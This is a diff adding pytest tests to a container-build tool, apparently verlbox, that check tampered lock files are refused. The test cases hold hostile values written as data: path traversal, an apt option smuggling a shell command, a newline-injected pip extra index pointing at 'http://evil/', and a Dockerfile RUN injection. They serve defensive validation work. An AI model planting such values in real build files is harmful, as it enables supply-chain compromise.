@@ -3,8 +3,10 @@ code, no traceback and nothing written; values that are valid but odd reach the 
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -222,3 +224,77 @@ def test_unknown_arguments_exit_2_in_one_line() -> None:
     result = run_verlbox("build", "p40", "--no-such-flag")
     assert result.returncode == 2 and "Traceback" not in result.stderr
     assert result.stderr.strip().splitlines()[-1].startswith("verlbox: error: unrecognized arguments")
+
+
+def _locked_child(folder: Path, edit: Callable[[dict], object]) -> Path:
+    """A recipe of the user's (p40-cu124 under another name) with the shipped lock, made for it and then
+    edited by EDIT as an attacker or a bad merge would: the lock is what the build trusts."""
+    recipe = child(folder, {}, parent="p40-cu124.yaml", name="mine")
+    lock = json.loads((SHIPPED / "p40-cu124.lock.json").read_text())
+    lock["recipe"], lock["recipe_hash"] = "mine", load_recipe(recipe).content_hash
+    edit(lock)
+    (folder / "mine.lock.json").write_text(json.dumps(lock))
+    return recipe
+
+
+def _step(lock: dict, name: str) -> dict:
+    return next(step for step in lock["steps"] if step["name"] == name)
+
+
+CRAFTED_LOCKS = [
+    ("traversal", lambda lock: _step(lock, "torch").update(name="../../x"), "steps.1.name", "pattern"),
+    (
+        "apt-option",
+        lambda lock: _step(lock, "python")["apt"].append({"name": "-oDPkg::Pre-Invoke::=touch /x", "version": "1"}),
+        "steps.0.apt.47.name",
+        "Debian package name",
+    ),
+    (
+        "apt-version-option",
+        lambda lock: _step(lock, "python")["apt"][0].update(version="--allow-unauthenticated"),
+        "steps.0.apt.0.version",
+        "Debian package version",
+    ),
+    (
+        "pip-newline",
+        lambda lock: _step(lock, "torch")["pip"][0].update(name="filelock\n--extra-index-url http://evil/"),
+        "steps.1.pip.0.name",
+        "control character",
+    ),
+    ("pip-hash", lambda lock: _step(lock, "torch")["pip"][0].update(sha256="abc"), "steps.1.pip.0.sha256", "pattern"),
+    ("missing-key", lambda lock: _step(lock, "torch")["pip"][0].pop("sha256"), "steps.1.pip.0.sha256", "missing"),
+    ("base-newline", lambda lock: lock["base"].update(reference="debian\nRUN x"), "base.reference", "control"),
+    ("unknown-key", lambda lock: lock.update(extra_index="http://evil/"), "extra_index", "unknown key"),
+    ("missing-step", lambda lock: lock["steps"].remove(_step(lock, "verl-deps")), "steps: no step verl-deps", ""),
+    (
+        "extra-step",
+        lambda lock: lock["steps"].append({"name": "evil", "stage": "final"}),
+        "steps: step evil is not one",
+        "",
+    ),
+    ("twice", lambda lock: lock["steps"].append(_step(lock, "torch")), "steps", "torch is listed more than once"),
+]
+
+
+@pytest.mark.parametrize(("edit", "key", "problem"), [c[1:] for c in CRAFTED_LOCKS], ids=[c[0] for c in CRAFTED_LOCKS])
+def test_a_crafted_lock_is_refused_in_one_line_naming_file_and_key(
+    tmp_path: Path, edit: Callable[[dict], object], key: str, problem: str
+) -> None:
+    recipe = _locked_child(tmp_path, edit)
+    out = tmp_path / "Dockerfile"
+    result = run_verlbox("render", str(recipe), "-o", str(out))
+    assert_refused(result, f"{tmp_path / 'mine.lock.json'}: {key}", problem)
+    assert not out.exists()
+
+
+def test_the_shipped_lock_passes_its_own_schema_and_each_fault_is_its_own_line(tmp_path: Path) -> None:
+    assert run_verlbox("render", str(_locked_child(tmp_path, lambda lock: None))).returncode == 0
+
+    def two_faults(lock: dict) -> None:
+        _step(lock, "torch")["pip"][0].update(sha256="abc")
+        _step(lock, "python")["apt"][0].update(version="-x")
+
+    result = run_verlbox("render", str(_locked_child(tmp_path, two_faults)))
+    lines = result.stderr.strip().splitlines()
+    assert result.returncode == BAD_INPUT and len(lines) == 2, result.stderr
+    assert "steps.0.apt.0.version" in lines[0] and "steps.1.pip.0.sha256" in lines[1]
